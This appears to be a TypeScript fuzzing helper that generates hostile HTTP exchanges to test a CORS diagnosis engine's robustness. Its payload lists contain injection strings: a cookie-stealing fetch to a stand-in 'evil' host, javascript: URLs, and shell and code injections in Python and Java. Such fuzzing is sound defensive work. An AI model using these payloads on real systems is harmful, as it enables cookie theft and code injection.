/**
 * Hostile exchanges, from a seed: what a website, a HAR or a server can put in every field the engine reads
 * (quotes of every language, `$`, `%{`, `#{`, line separators, non-tokens, `__proto__`, unparseable URLs,
 * secrets). One generator serves the adversarial suite (fast-check picks the seeds) and `npm run fuzz`.
 */
import { type Diagnosis, diagnose, type Exchange, type HeaderLine } from '../../src/core/index.ts'

export type Rand = () => number

/** mulberry32: small, fast, seeded. */
export function rng(seed: number): Rand {
  let a = seed >>> 0
  return () => {
    a = (a + 0x6d2b79f5) >>> 0
    let t = a
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}

export const pick = <T>(r: Rand, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)] as T
export const chance = (r: Rand, p: number): boolean => r() < p

/** Pieces that mean something in some snippet language or terminal. */
export const NASTY = [
  "'",
  '"',
  '\\',
  '`',
  '$',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal ${ is the point (JS template injection).
  '${x}',
  '$host',
  '%{x}',
  '%y',
  '#{x}',
  '{x}',
  '}',
  ';',
  '\n',
  '\r\n',
  '\u2028',
  '\u0000',
  '\u001b]52;c;ZXZpbA==\u0007',
  '*/',
  '<!--',
  '\\u0022',
  '__proto__',
  ' ',
  '\t',
  ',',
  "'+fetch('//evil/'+document.cookie)+'",
  '");\nSystem.exit(1);//',
  '"\nimport os; os.system("x")\n"',
]

function randomText(r: Rand, max = 12): string {
  let s = ''
  const n = Math.floor(r() * max)
  for (let i = 0; i < n; i++)
    s += chance(r, 0.3)
      ? pick(r, NASTY)
      : String.fromCharCode(Math.floor(r() * (chance(r, 0.8) ? 128 : 0x3000)))
  return s
}

const nasty = (r: Rand, base: string): string =>
  chance(r, 0.5) ? base : `${base}${pick(r, NASTY)}${randomText(r, 4)}`

export const PAGE = 'https://app.example'
const API_HOST = 'https://api.example'

const ORIGINS = [
  PAGE,
  PAGE,
  PAGE,
  'null',
  'http://localhost:3000',
  "https://a'b.example",
  'https://x"y',
  'javascript:alert(1)',
  '',
]
const METHODS = [
  'GET',
  'POST',
  'PUT',
  'DELETE',
  'PATCH',
  'get',
  'patch',
  '__proto__',
  'constructor',
  'toString',
  'GE T',
  "P'UT",
  'X$Y',
  '%{x}e',
  'a"b',
]
const HEADER_NAMES = [
  'x-a',
  'Content-Type',
  'Authorization',
  'X-Api-Key',
  'x$y',
  'x%y',
  "x'y",
  'x"y',
  'a b',
  '__proto__',
  'x{y}',
  'x#{y}',
]
const PATHS = [
  '/items',
  '/api/v1/items',
  "/a'b",
  '/$x',
  '/%{x}',
  '/a"b',
  '/{x}/y',
  '/\u2028',
  '/#{x}',
  '/a\\b',
]
const SERVERS = [
  'nginx/1.22.1',
  'Apache/2.4.57 (Debian)',
  'Caddy',
  'Kestrel',
  'WSGIServer/0.2',
  'uvicorn',
  'werkzeug',
  null,
  null,
]
const LOCATIONS = [
  "https://api.example/login?x='+fetch('//evil/'+document.cookie)+'",
  'http://[',
  'javascript:alert(1)',
  'https://api.example/items/',
  '/login',
  'data:text/html,x',
  'https://u:pw@api.example/',
]

function acaoFor(r: Rand, origin: string): string | null {
  return pick(r, [
    origin,
    origin,
    '*',
    `${origin}, *`,
    `${origin}/`,
    null,
    `x${' '.repeat(50)}x`,
    randomText(r),
  ])
}

/** One exchange as a stranger could shape it. `sameOrigin` makes the request go to the page's own origin. */
export function hostileExchange(r: Rand, options: { sameOrigin?: boolean } = {}): Exchange {
  const origin = options.sameOrigin ? PAGE : pick(r, ORIGINS)
  const method = chance(r, 0.7) ? pick(r, METHODS) : randomText(r, 6) || 'GET'
  const names = [
    ...new Set(
      Array.from({ length: Math.floor(r() * 4) }, () =>
        chance(r, 0.8) ? pick(r, HEADER_NAMES) : randomText(r, 6) || 'x',
      ),
    ),
  ]
  const host = options.sameOrigin ? PAGE : API_HOST
  const url = `${host}${nasty(r, pick(r, PATHS))}${chance(r, 0.2) ? '?access_token=SECRETtoken123&x=1' : ''}`
  const requestHeaders: HeaderLine[] = [
    ...(origin !== '' ? [{ name: 'Origin', value: origin }] : []),
    ...names.map((n) => ({ name: n, value: nasty(r, 'v') })),
    ...(chance(r, 0.3) ? [{ name: 'Cookie', value: 'sid=SECRETcookie42' }] : []),
  ]
  const server = pick(r, SERVERS)
  const responseHeaders = (): HeaderLine[] => {
    const out: HeaderLine[] = []
    const acao = acaoFor(r, origin || PAGE)
    if (acao !== null) out.push({ name: 'Access-Control-Allow-Origin', value: acao })
    if (chance(r, 0.3))
      out.push({ name: 'Access-Control-Allow-Origin', value: pick(r, ['*', origin, randomText(r)]) })
    if (chance(r, 0.4))
      out.push({ name: 'Access-Control-Allow-Credentials', value: pick(r, ['true', 'True', randomText(r)]) })
    if (chance(r, 0.5))
      out.push({
        name: 'Access-Control-Allow-Methods',
        value: pick(r, ['GET, POST', method, '*', randomText(r)]),
      })
    if (chance(r, 0.5))
      out.push({
        name: 'Access-Control-Allow-Headers',
        value: pick(r, [names.join(', '), '*', randomText(r)]),
      })
    if (chance(r, 0.4))
      out.push({
        name: 'Vary',
        // The last one is Spring's: it names the framework, so Spring's recipe (Java) is reached too.
        value: pick(r, [
          'Origin',
          'Accept-Encoding',
          ' '.repeat(40),
          randomText(r),
          'Origin, Access-Control-Request-Method, Access-Control-Request-Headers',
        ]),
      })
    if (server) out.push({ name: 'Server', value: server })
    // Frameworks get a fix only when the headers name them: name each now and then.
    if (chance(r, 0.3))
      out.push({ name: 'X-Powered-By', value: pick(r, ['Express', 'ASP.NET', 'PHP/8.2.7']) })
    if (chance(r, 0.2)) out.push({ name: 'Cache-Control', value: 'no-cache, private' })
    return out
  }
  // A browser never preflights a same-origin request; its redirects are what can make it cross-origin.
  const preflighted = !options.sameOrigin && chance(r, 0.6)
  const preflightStatus = pick(r, [200, 204, 204, 301, 302, 401, 403, 404, 500, Math.floor(r() * 700) - 50])
  const redirectedPreflight = preflightStatus >= 300 && preflightStatus < 400
  const preflight = preflighted
    ? {
        request: {
          method: 'OPTIONS',
          url,
          headers: [
            ...(origin !== '' ? [{ name: 'Origin', value: origin }] : []),
            { name: 'Access-Control-Request-Method', value: method },
            ...(names.length
              ? [
                  {
                    name: 'Access-Control-Request-Headers',
                    value: names
                      .map((n) => n.toLowerCase())
                      .sort()
                      .join(','),
                  },
                ]
              : []),
          ],
        },
        response: {
          status: preflightStatus,
          headers: [
            ...responseHeaders(),
            ...(redirectedPreflight ? [{ name: 'Location', value: pick(r, LOCATIONS) }] : []),
          ],
          ...(chance(r, 0.2)
            ? { bodySnippet: pick(r, ['Invalid CORS request', 'Disallowed CORS origin', randomText(r)]) }
            : {}),
        },
      }
    : undefined
  const redirects =
    !options.sameOrigin && chance(r, 0.15)
      ? [
          {
            fromUrl: url,
            status: 302,
            headers: [{ name: 'Location', value: pick(r, LOCATIONS) }],
            location: pick(r, LOCATIONS),
          },
        ]
      : undefined
  const failed = chance(r, 0.6)
  return {
    initiator: origin === '' ? null : origin,
    request: { method, url, headers: requestHeaders },
    ...(preflight ? { preflight } : {}),
    ...(redirects ? { redirects } : {}),
    ...(chance(r, 0.85)
      ? { response: { status: pick(r, [200, 200, 401, 404, 500]), headers: responseHeaders() } }
      : {}),
    outcome: failed
      ? { kind: 'error', error: pick(r, ['net::ERR_FAILED', 'net::ERR_CONNECTION_REFUSED', randomText(r)]) }
      : { kind: 'ok' },
    ...(chance(r, 0.3) ? { credentials: pick(r, ['include', 'omit'] as const) } : {}),
  }
}

/** Every header name in random letter case (names compare case-insensitively). */
export function recased(x: Exchange, r: Rand): Exchange {
  const flip = (hs: readonly HeaderLine[]): HeaderLine[] =>
    hs.map((h) => ({
      name: [...h.name].map((c) => (chance(r, 0.5) ? c.toUpperCase() : c.toLowerCase())).join(''),
      value: h.value,
    }))
  return {
    ...x,
    request: { ...x.request, headers: flip(x.request.headers) },
    ...(x.preflight
      ? {
          preflight: {
            ...x.preflight,
            request: { ...x.preflight.request, headers: flip(x.preflight.request.headers) },
            ...(x.preflight.response
              ? { response: { ...x.preflight.response, headers: flip(x.preflight.response.headers) } }
              : {}),
          },
        }
      : {}),
    ...(x.response ? { response: { ...x.response, headers: flip(x.response.headers) } } : {}),
  }
}

/** Response headers no CORS rule reads, added to every response. */
export function withIrrelevantHeaders(x: Exchange): Exchange {
  const add = (hs: readonly HeaderLine[]): HeaderLine[] => [
    ...hs,
    { name: 'X-Request-Id', value: 'abc' },
    { name: 'Cache-Control', value: 'no-store' },
  ]
  return {
    ...x,
    ...(x.preflight?.response
      ? {
          preflight: {
            ...x.preflight,
            response: { ...x.preflight.response, headers: add(x.preflight.response.headers) },
          },
        }
      : {}),
    ...(x.response ? { response: { ...x.response, headers: add(x.response.headers) } } : {}),
  }
}

export const verdictOf = (d: Diagnosis): string => `${d.verdict}/${d.corsError ?? '-'}`

export { diagnose }
